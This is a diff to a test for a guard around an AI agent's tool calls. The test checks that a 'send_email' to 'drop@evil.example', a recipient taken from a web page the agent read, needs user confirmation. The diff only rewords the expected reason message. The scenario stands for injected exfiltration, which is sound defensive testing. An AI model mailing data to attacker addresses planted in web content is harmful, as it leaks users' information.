@@ -72,7 +72,7 @@ describe('with the pack flow', () => {
     const outcome = await call(session, 'send_email', mail('drop@evil.example'), 'ok', false);
     expect(outcome).toMatchObject({ action: 'ask' });
     expect(outcome.reason).toMatch(
-      /needs a yes by the rule flow\/recipient: the recipient "drop@evil.example" comes from a web page read at \d\d:\d\d UTC \(entry \d+\)/,
+      /needs a yes by the rule flow\/recipient: the recipient \(`to`\) "drop@evil.example" comes from a web page read at \d\d:\d\d UTC \(entry \d+\)/,
     );
     await session.close();
   });
